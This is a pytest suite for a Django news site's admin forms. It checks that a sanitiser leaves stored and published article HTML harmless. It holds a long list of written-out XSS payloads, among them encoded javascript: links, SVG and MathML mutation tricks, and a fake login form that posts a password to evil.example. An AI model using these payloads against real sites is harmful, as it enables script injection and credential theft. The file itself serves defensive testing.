"""XSS sent straight to the admin's article forms (no editor in between) never executes.

Each payload goes in the POST body of the real add and change endpoints, in both languages and
both rich-text fields (body, background). What is stored may hold only the sanitizer's allowed
tags, attributes and URL schemes; the public page that shows the story holds nothing executable.
"""

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from articles.models import Article
from newsroom.sanitize import ALLOWED_TAGS
from tests.factories import ArticleFactory
from tests.security.admin_forms import admin_form_data
from tests.security.html_checks import MARKER, executable_parts

pytestmark = pytest.mark.django_db

JS = f"alert('{MARKER}')"

PAYLOADS = {
    "script": f"<script>{JS}</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-upper": f"<SCRIPT>{JS}</SCRIPT>",
    "script-split": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "img-onerror": f'<img src=x onerror="{JS}">',
    "onerror-no-quotes": f"<img src=x onerror={JS}>",
    "body-onload": f'<body onload="{JS}">',
    "p-onclick": f'<p onclick="{JS}">click</p>',
    "a-onmouseover": f'<a href="https://example.org" onmouseover="{JS}">x</a>',
    "details-ontoggle": f'<details open ontoggle="{JS}">',
    "input-autofocus": f'<input autofocus onfocus="{JS}">',
    "js-href": f'<a href="javascript:{JS}">x</a>',
    "js-href-casing": f'<a href="JaVaScRiPt:{JS}">x</a>',
    "js-href-spaces": f'<a href="  javascript:{JS}">x</a>',
    "js-href-tab": f'<a href="jav\tascript:{JS}">x</a>',
    "js-href-newline-entity": f'<a href="java&#x0A;script:{JS}">x</a>',
    "js-href-tab-entity": f'<a href="jav&#x09;ascript:{JS}">x</a>',
    "js-href-decimal": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('PWNED')\">x</a>",
    "js-href-hex": "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('PWNED')\">x</a>",
    "js-href-padded": "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert('PWNED')\">x</a>",
    "js-href-named-colon": f'<a href="javascript&colon;{JS}">x</a>',
    "js-href-unquoted": f"<a href=javascript:{JS}>x</a>",
    "vbscript": "<a href=\"vbscript:msgbox('PWNED')\">x</a>",
    "data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnUFdORUQnKTwvc2NyaXB0Pg==">x</a>',
    "data-casing": "<a href=\"DaTa:text/html,<script>alert('PWNED')</script>\">x</a>",
    "img-data-svg": "<img src=\"data:image/svg+xml,<svg onload=alert('PWNED')>\">",
    "iframe": f'<iframe src="javascript:{JS}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    "object": "<object data=\"data:text/html,<script>alert('PWNED')</script>\"></object>",
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg-onload": f'<svg onload="{JS}"></svg>',
    "svg-script": f"<svg><script>{JS}</script></svg>",
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{JS}"/><text>x</text></a></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert('PWNED')>#x\"/></svg>",
    "math-href": f'<math><mtext><a href="javascript:{JS}">x</a></mtext></math>',
    "math-mglyph": f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext></math>",
    "style-element": f"<style>body{{background:url('javascript:{JS}')}}</style>",
    "style-expression": f'<p style="width: expression({JS});">x</p>',
    "style-url": f"<p style=\"background:url('javascript:{JS}')\">x</p>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "meta-refresh-js": f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "form-action": '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
    "button-formaction": f'<button formaction="javascript:{JS}">x</button>',
    "unclosed-img": f"<img src=x onerror={JS}//",
    "unclosed-attribute": f'<a href="https://example.org" title="x onmouseover={JS}>x',
    "broken-comment": f"<!--<img src=x onerror={JS}>-->",
    "comment-break-out": f"<!-- --!><img src=x onerror={JS}>-->",
    "cdata": f"<![CDATA[<script>{JS}</script>]]>",
    "nested-quotes": f'<a href="https://example.org"" onclick="{JS}">x</a>',
    "noscript-trick": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "template": f"<template><script>{JS}</script></template>",
    "textarea-breakout": f"</textarea><script>{JS}</script>",
    "title-breakout": f"</title><script>{JS}</script>",
    "xmp": f"<xmp><script>{JS}</script></xmp>",
    "utf7": "+ADw-script+AD4-alert('PWNED')+ADw-/script+AD4-",
    "srcset": f'<img srcset="javascript:{JS} 1x">',
    "video-poster": f'<video poster="javascript:{JS}"></video>',
    "a-xlink": f'<a xlink:href="javascript:{JS}">x</a>',
    "blockquote-cite": f'<blockquote cite="javascript:{JS}">x</blockquote>',
}

RICH_FIELDS = ["body_bg", "body_en", "background_bg", "background_en"]


@pytest.fixture
def chief(client):
    user = get_user_model().objects.create_superuser("chief", "chief@example.com", "pw")
    client.force_login(user)
    return user


def assert_stored_is_inert(article):
    for field in RICH_FIELDS:
        stored = getattr(article, field)
        assert executable_parts(stored, allowed_tags=ALLOWED_TAGS) == [], (field, stored)


def assert_public_page_is_inert(client, article):
    Article.objects.filter(pk=article.pk).update(
        status=Article.Status.PUBLISHED, publish_at=timezone.now() - timezone.timedelta(minutes=1)
    )
    for language in ("bg", "en"):
        response = client.get(f"/{language}/news/{article.pk}/", follow=True)
        assert response.status_code == 200
        html = response.content.decode()
        assert executable_parts(html) == [], (language, html)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_posted_to_the_add_form_is_stored_and_shown_inert(client, chief, payload):
    url = "/admin/articles/article/add/"
    data = admin_form_data(
        client, url, "article_form", reuse=True,
        title_bg="Новина с атака", title_en="A story under attack",
        **{field: f"<p>Before.</p>{payload}<p>After.</p>" for field in RICH_FIELDS},
    )  # fmt: skip
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:3000]
    article = Article.objects.get(title_bg="Новина с атака")
    assert_stored_is_inert(article)
    assert "Before." in article.body_bg  # broken markup may swallow what follows it; no more
    assert_public_page_is_inert(client, article)


def test_the_whole_corpus_posted_to_the_change_form_is_stored_and_shown_inert(client, chief):
    """All payloads at once, in every rich field of an existing story: none survives the others."""
    article = ArticleFactory(draft=True)
    url = f"/admin/articles/article/{article.pk}/change/"
    corpus = "\n".join(f"<p>{name}</p>{payload}" for name, payload in PAYLOADS.items())
    data = admin_form_data(client, url, "article_form", **{field: corpus for field in RICH_FIELDS})
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:3000]
    article.refresh_from_db()
    assert_stored_is_inert(article)
    assert "<p>script</p>" in article.body_bg
    assert_public_page_is_inert(client, article)


@pytest.mark.parametrize("payload", [PAYLOADS["script"], PAYLOADS["title-breakout"], PAYLOADS["img-onerror"]])
def test_markup_in_plain_text_fields_is_shown_as_text(client, chief, payload):
    """Headline, lead, dateline and byline are plain text: markup in them is escaped, not run."""
    url = "/admin/articles/article/add/"
    data = admin_form_data(
        client, url, "article_form",
        title_bg=f"Заглавие {payload}", title_en=f"Headline {payload}",
        lead_bg=payload, lead_en=payload, dateline_bg=payload, byline=payload[:200],
    )  # fmt: skip
    assert client.post(url, data).status_code == 302
    article = Article.objects.get()
    assert_public_page_is_inert(client, article)


def test_allowed_formatting_survives(client, chief):
    """The sanitizer is an allow-list, not a shredder: ordinary formatting stays."""
    url = "/admin/articles/article/add/"
    rich = (
        "<h2>Подзаглавие</h2><p>Текст с <strong>удебелен</strong> и <em>наклонен</em> шрифт и "
        '<a href="https://www.bta.bg/">връзка</a>.</p><ul><li>първо</li></ul>'
        "<blockquote>цитат</blockquote>"
    )
    data = admin_form_data(client, url, "article_form", title_bg="Форматиране", body_bg=rich)
    assert client.post(url, data).status_code == 302
    body = Article.objects.get().body_bg
    for kept in ("<h2>Подзаглавие</h2>", "<strong>удебелен</strong>", "<em>наклонен</em>",
                 'href="https://www.bta.bg/"', "<li>първо</li>", "<blockquote>цитат</blockquote>"):  # fmt: skip
        assert kept in body
